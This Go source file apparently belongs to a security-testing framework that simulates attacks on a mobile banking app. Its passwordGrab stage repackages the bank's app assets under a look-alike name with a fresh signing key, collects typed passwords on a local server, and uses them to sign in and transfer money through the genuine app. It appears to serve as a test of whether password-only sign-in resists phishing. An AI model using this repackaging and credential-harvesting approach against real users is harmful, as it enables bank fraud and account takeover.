package attacker

import (
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"

	"keyladder/mobileclient/release"
	"keyladder/stages/catalog"
)

// passwordGrab puts an app into the store that looks like the bank's: its label, its
// screens, another program. Anyone who signs in with it hands over the password. The
// attacker types that into the genuine app, on a phone of their own: there is nothing
// to break, because the password is all that says who is signing in.
//
//keyladder:code attack-password-grab
func passwordGrab(ctx context.Context, g *Given) (Result, error) {
	collector, err := newCollector()
	if err != nil {
		return Result{}, err
	}
	defer collector.close()
	path, err := g.packLookAlike(collector.url())
	if err != nil {
		return Result{}, err
	}
	g.Say("Packed an app of our own under the label and with the assets of the bank's, and signed it with a key of our own.")
	if err := g.LookAlike.Used(ctx, path); err != nil {
		return Result{}, fmt.Errorf("the victim does not use the look-alike app: %w", err)
	}
	grabbed, ok := collector.latest()
	if !ok {
		return Result{Check: catalog.CheckHidden, Obstacle: "the victim typed no password into the look-alike app"}, nil
	}
	g.Say("The victim signed in with it as %s; the name and the password came to our own server.", grabbed.User)
	phone, err := g.open(ctx, g.Package, nil)
	if err != nil {
		return Result{}, err
	}
	defer phone.close()
	if err := phone.signInAs(ctx, grabbed.User, grabbed.Password); err != nil {
		return stopped(err)
	}
	g.Say("Signed in as %s with the genuine app on our own phone.", grabbed.User)
	payment, err := phone.payment(ctx, pittance)
	if err != nil {
		return stopped(err)
	}
	if _, err := shown(phone.app.Transfer(ctx, payment)); err != nil {
		return stopped(err)
	}
	g.Say("Transferred %d minor units from %s to %s with it.", payment.Amount, payment.From, payment.To)
	return Result{Claim: true}, nil
}

// packLookAlike packs this program as an app that looks like the bank's.
func (g *Given) packLookAlike(collector string) (path string, err error) {
	_, manifest, assets, err := release.Read(g.Package)
	if err != nil {
		return "", fmt.Errorf("take the genuine package apart: %w", err)
	}
	program, err := os.Executable()
	if err != nil {
		return "", fmt.Errorf("find the look-alike's program: %w", err)
	}
	_, key, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		return "", err
	}
	manifest.Name, manifest.Schemes = lookAlikeName, nil
	assets[collectorAsset] = []byte(collector)
	path = filepath.Join(g.Dir, "look-alike.pkg")
	if err := release.Pack(path, program, manifest, assets, key); err != nil {
		return "", fmt.Errorf("pack the look-alike: %w", err)
	}
	return path, nil
}

// collector is the server to which a look-alike app sends what is typed into it.
type collector struct {
	listener net.Listener
	server   *http.Server
	done     chan error
	typed    chan typed // the latest
}

func newCollector() (*collector, error) {
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, fmt.Errorf("start a server: %w", err)
	}
	c := &collector{listener: listener, done: make(chan error, 1), typed: make(chan typed, 8)}
	c.server = &http.Server{Handler: c, ReadHeaderTimeout: callTimeout}
	go func() { c.done <- c.server.Serve(listener) }()
	return c, nil
}

func (c *collector) url() string { return "http://" + c.listener.Addr().String() }

func (c *collector) close() {
	_ = c.server.Close()
	<-c.done
}

func (c *collector) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	var what typed
	err := json.NewDecoder(io.LimitReader(r.Body, 1<<12)).Decode(&what)
	if err != nil || what.User == "" || what.Password == "" {
		http.Error(w, "nothing was typed", http.StatusBadRequest)
		return
	}
	select {
	case c.typed <- what:
	default: // enough
	}
	w.WriteHeader(http.StatusNoContent)
}

// latest is what was typed last, if anything was.
func (c *collector) latest() (what typed, ok bool) {
	for {
		select {
		case what = <-c.typed:
			ok = true
		default:
			return what, ok
		}
	}
}
